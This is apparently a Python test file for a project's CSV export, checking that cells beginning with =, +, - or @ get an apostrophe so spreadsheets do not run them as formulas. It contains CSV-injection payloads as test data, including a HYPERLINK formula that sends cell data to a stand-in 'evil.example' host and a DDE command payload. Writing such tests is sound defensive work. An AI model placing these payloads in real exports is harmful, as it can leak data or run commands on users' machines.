"""Issue 20, finding 7: no CSV cell the project writes can start a spreadsheet formula."""
from __future__ import annotations

import csv
import io

import pytest

from rag.export import FORMULA_START, csv_cell, write_csv

from .sec_helpers import library_with


@pytest.mark.parametrize("value,expected", [
    ("=HYPERLINK(\"http://evil.example\",\"x\")", "'=HYPERLINK(\"http://evil.example\",\"x\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("全年办理法律援助案件88件。", "全年办理法律援助案件88件。"),
    ("", ""),
    (-3, -3), (88.0, 88.0), (None, None),
])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


FORMULA_REPORT = """=HYPERLINK("http://evil.example/?d="&A1,"杭州市西湖区2023年法治政府建设年度报告")
2023年，西湖区深入推进法治政府建设，现将有关情况报告如下。
一、主要举措及成效
=1+1全年办理法律援助案件88件。
@SUM(1+1)全年共受理行政复议案件35件。
-2+3件行政复议案件依法纠错。
+5全年开展法治宣传活动120场。
杭州市西湖区人民政府
2024年3月1日
"""


def test_rag_facts_csv_escapes_formula_cells(tmp_path, embedder, capsys, monkeypatch):
    """`rag facts --csv` over a report whose title and sentences begin with = + - @."""
    assistant, results = library_with(tmp_path, embedder, {"西湖区2023.txt": FORMULA_REPORT})
    assert [r.status for r in results] == ["added"]
    facts = assistant.facts()
    raw = [v for f in facts for v in (f.text, f.title, f.metric, f.as_written) if isinstance(v, str)]
    assert any(v.startswith(FORMULA_START) for v in raw)  # the hostile cells are really there

    from rag import cli

    settings = assistant.settings
    monkeypatch.setenv("RAG_SEEDS_DIR", str(settings.seeds_dir))
    code = cli.main(["--data-dir", str(settings.data_dir), "facts", "--csv"])
    out = capsys.readouterr().out
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(facts) > 0
    cells = [v for row in rows for v in row.values()]
    assert not [v for v in cells if v.startswith(FORMULA_START)]
    assert any(v.startswith("'=") for v in cells) and any(v.startswith("'@") for v in cells)
    # The escaped sentence is the sentence with one apostrophe in front, nothing else changed.
    texts = {f.text for f in facts}
    assert {row["text"][1:] if row["text"].startswith("'") else row["text"] for row in rows} == texts


def test_write_csv_is_the_one_writer():
    out = io.StringIO()
    assert write_csv(out, ["a", "b"], [{"a": "=1", "b": 2}]) == 1
    assert out.getvalue() == "a,b\n'=1,2\n"
